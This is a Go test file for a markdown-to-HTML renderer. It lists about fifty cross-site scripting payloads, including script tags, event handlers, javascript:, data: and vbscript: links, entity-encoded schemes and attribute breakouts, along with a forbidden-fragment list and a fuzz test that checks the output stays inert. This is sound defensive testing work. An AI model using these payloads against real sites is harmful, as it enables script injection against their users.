package render

import (
	"slices"
	"strings"
	"testing"
)

// xssCases are attacks people have used against markdown renderers. Every
// one must come out inert: checkSafe holds the output to an allowlist, and
// forbidden lists strings that must not appear at all.
var xssCases = []struct {
	name, md string
}{
	{"script block", "<script>alert(1)</script>"},
	{"script inline", "hello <script>alert(1)</script> world"},
	{"script in a list", "- <script src=//evil.example/x.js></script>"},
	{"img onerror", `<img src=x onerror="alert(1)">`},
	{"img onerror inline", `text <img src=x onerror=alert(1)> text`},
	{"event handler on a", `<a href="https://x" onclick="alert(1)">x</a>`},
	{"javascript link", "[click](javascript:alert(1))"},
	{"javascript link mixed case", "[click](JaVaScRiPt:alert(1))"},
	{"javascript link entity encoded", "[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))"},
	{"javascript link hex entities", "[click](&#x6A;avascript&#x3A;alert(1))"},
	{"javascript link with tab entity", "[click](java&#x09;script:alert(1))"},
	{"javascript link with newline entity", "[click](java&#10;script:alert(1))"},
	{"javascript link leading space", "[click](<  javascript:alert(1)>)"},
	{"javascript link in angle brackets", "[click](<javascript:alert(1)>)"},
	{"javascript autolink", "<javascript:alert(1)>"},
	{"javascript reference link", "[click][evil]\n\n[evil]: javascript:alert(1)"},
	{"javascript image", "![x](javascript:alert(1))"},
	{"vbscript link", "[click](vbscript:msgbox(1))"},
	{"data link", "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"},
	{"data image", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"},
	{"data link mixed case", "[click](DaTa:text/html,<script>alert(1)</script>)"},
	{"file link", "[click](file:///etc/passwd)"},
	{"malicious link text", `[<img src=x onerror=alert(1)>](https://example.com)`},
	{"attribute breakout in text", `[" onmouseover="alert(1)](https://example.com)`},
	{"attribute breakout in title", `[a](https://example.com "\" onmouseover=\"alert(1)")`},
	{"attribute breakout in url", `[a](https://example.com/"onmouseover="alert(1))`},
	{"raw html block", "<div onclick=\"alert(1)\">\n<b>bold</b>\n</div>"},
	{"svg inline", `<svg onload=alert(1)><circle r=10 /></svg>`},
	{"svg with script", "<svg><script>alert(1)</script></svg>"},
	{"math mxss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"},
	{"iframe", `<iframe src="https://evil.example"></iframe>`},
	{"iframe srcdoc", `<iframe srcdoc="<script>alert(1)</script>"></iframe>`},
	{"object embed", `<object data="x.swf"></object><embed src="x.swf">`},
	{"form", `<form action="https://evil.example"><input name=p type=password><button>Go</button></form>`},
	{"style attribute", `<p style="background:url(javascript:alert(1))">x</p>`},
	{"style element", "<style>body{display:none}</style>"},
	{"meta refresh", `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`},
	{"base href", `<base href="javascript:alert(1)//">`},
	{"html comment trick", "<!-- --><script>alert(1)</script> -->"},
	{"details ontoggle", `<details open ontoggle=alert(1)>`},
	{"wiki link title", `[[<script>alert(1)</script>]]`},
	{"wiki link attribute breakout", `[["><img src=x onerror=alert(1)>]]`},
	{"wiki link label", `[[Team handbook|<img src=x onerror=alert(1)>]]`},
	{"code fence language", "```\"><script>alert(1)</script>\nx\n```"},
	{"code fence style attr", "```go {style=\"x\" onclick=\"alert(1)\" hl_lines=[1]}\nx\n```"},
	{"heading with html", `# <img src=x onerror=alert(1)> title`},
	{"nested brackets", "[[x]](javascript:alert(1))"},
	{"table cell html", "| a |\n|---|\n| <script>alert(1)</script> |"},
	{"mention with html", "@<script>alert(1)</script>"},
	{"autolink with quotes", `https://example.com/"><script>alert(1)</script>`},
	{"protocol relative image", "![x](//evil.example/track.png)"},
}

// forbidden are fragments that mean an attack got through, in any case.
var forbidden = []string{"<script", "<svg", "<iframe", "<object", "<embed", "<form", "<style", "<meta", "<base",
	"<math", "onerror", "onload", "onclick", "onmouseover", "ontoggle", "javascript:", "vbscript:", "data:", "style="}

func TestXSS(t *testing.T) {
	// Hostile resolvers: the renderer must not trust what K1/C1 return.
	hostile := Options{
		ResolveLink: func(title string) (string, bool) {
			if title == "Team handbook" {
				return "javascript:alert(1)", true
			}
			return `/kb/doc/x" onmouseover="alert(1)`, true
		},
		ResolveMention: func(h string) (string, string, bool) {
			return `u" onclick="alert(1)`, `<img src=x onerror=alert(1)>`, true
		},
	}
	for _, opts := range []Options{testOpts, hostile} {
		for _, c := range xssCases {
			t.Run(c.name, func(t *testing.T) {
				r := mustRender(t, c.md, opts)
				// Text may say "javascript:" (it is only text); markup may not.
				low := strings.ToLower(markupOf(r.HTML))
				for _, f := range forbidden {
					if strings.Contains(low, f) {
						t.Errorf("output contains %q:\n%s", f, r.HTML)
					}
				}
			})
		}
	}
}

// Links a reader can use survive sanitizing, with the right attributes.
func TestLinksKept(t *testing.T) {
	r := mustRender(t, "[in](/kb/doc/1#개요) [out](https://example.com/a?b=1&c=2) [mail](mailto:kim@example.com) [frag](#section)", Options{})
	for _, want := range []string{
		`<a href="/kb/doc/1#%EA%B0%9C%EC%9A%94">in</a>`,
		`<a href="https://example.com/a?b=1&amp;c=2" rel="nofollow noreferrer noopener" target="_blank">out</a>`,
		`<a href="mailto:kim@example.com">mail</a>`,
		`<a href="#section">frag</a>`,
	} {
		if !strings.Contains(r.HTML, want) {
			t.Errorf("missing %s in\n%s", want, r.HTML)
		}
	}
}

// FuzzRender: whatever the input, the output passes the allowlist. Seeds
// are in testdata/fuzz/FuzzRender and the XSS cases above.
func FuzzRender(f *testing.F) {
	for _, c := range xssCases {
		f.Add(c.md)
	}
	f.Add(benchDocument(4 << 10))
	for _, md := range sectionCases {
		f.Add(md)
	}
	f.Fuzz(func(t *testing.T, md string) {
		r, err := Render(md, testOpts)
		if err != nil {
			if len(md) > MaxInput {
				return
			}
			t.Fatal(err)
		}
		if err := checkSafe(r.HTML); err != nil {
			t.Fatalf("unsafe output: %v\ninput: %q\noutput: %s", err, md, r.HTML)
		}
		if m := strings.ToLower(markupOf(r.HTML)); strings.Contains(m, "<script") || strings.Contains(m, "javascript:") {
			t.Fatalf("script in markup: %s", r.HTML)
		}
		// Rendering by sections (sections.go) must not change the result.
		whole, _, err := renderSections([]string{md}, testOpts)
		if err != nil {
			t.Fatal(err)
		}
		if whole.HTML != r.HTML || !slices.Equal(whole.Headings, r.Headings) {
			t.Fatalf("sectioned render differs from the whole\ninput: %q\nsections: %q\n got: %s\nwant: %s",
				md, splitSections(md), r.HTML, whole.HTML)
		}
	})
}
